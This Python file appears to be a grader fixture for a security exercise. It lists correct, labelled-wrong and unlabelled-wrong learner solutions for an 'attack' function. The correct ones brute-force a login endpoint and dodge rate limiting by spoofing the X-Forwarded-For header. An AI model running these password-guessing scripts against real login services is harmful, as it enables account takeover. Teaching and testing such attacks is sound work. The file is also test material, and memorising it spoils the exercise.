from learners import Learners

LEARNERS = Learners(
    right=(
        """
def attack(api, username, words):
    for i, word in enumerate(words):
        answer = api.post(
            "/login",
            json={"username": username, "password": word},
            headers={"X-Forwarded-For": f"192.0.2.{i}"},
        )
        if answer.is_success:
            return word
""",
        """
from uuid import uuid4


def attack(api, username, words):
    for word in words:
        body = {"username": username, "password": word}
        answer = api.post("/login", json=body, headers={"x-forwarded-for": uuid4().hex})
        if "access_token" in answer.json():
            return word
""",
        """
def attack(api, username, words):
    address = 0
    for word in words:
        while True:
            headers = {"X-Forwarded-For": str(address)}
            body = {"username": username, "password": word}
            status = api.post("/login", json=body, headers=headers).status_code
            if status != 429:
                break
            address += 1
        if status == 200:
            return word
    return ""
""",
        """
def attack(api, username, words):
    found = []
    for start in range(0, len(words), 5):
        for word in words[start : start + 5]:
            api.headers["X-Forwarded-For"] = f"10.0.{start}.1"
            answer = api.post("/login", json=dict(username=username, password=word))
            if answer.status_code == 200:
                found.append(word)
    return found[0]
""",
    ),
    named={
        """
def attack(api, username, words):
    headers = {"X-Forwarded-For": "10.0.0.7"}
    for word in words:
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess, headers=headers).status_code == 200:
            return word
    return None
""": "one address",
        """
def attack(api, username, words):
    for word in words:
        answer = api.post("/login", json={"username": username, "password": word})
        if answer.status_code == 429:
            break
        if answer.status_code == 200:
            return word
""": "one address",
        """
def attack(api, username, words):
    for word in words:
        answer = api.post("/login", json={"username": username, "password": word})
        if answer.json().get("detail") != "Wrong username or password.":
            return word
""": "429 taken for success",
    },
    unnamed=(
        """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"username": username, "password": word}
        answer = api.post("/login", json=guess, headers=headers)
        if answer.status_code == 200:
            return answer.json()["access_token"]
""",
        """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"username": username, "password": word}
        answer = api.post("/login", json=guess, headers=headers)
        return word if answer.status_code == 200 else None
""",
        """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess, headers=headers).status_code == 200:
            print(word)
""",
        """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": f"10.0.0.{number}"}
        guess = {"name": username, "password": word}
        if api.post("/login", json=guess, headers=headers).status_code == 200:
            return word
""",
        """
def attack(api, username, words):
    return words[31]
""",
        """
def attack(api, username, words):
    for number, word in enumerate(words):
        headers = {"X-Forwarded-For": number}
        guess = {"username": username, "password": word}
        if api.post("/login", json=guess, headers=headers).status_code == 200:
            return word
""",
    ),
)
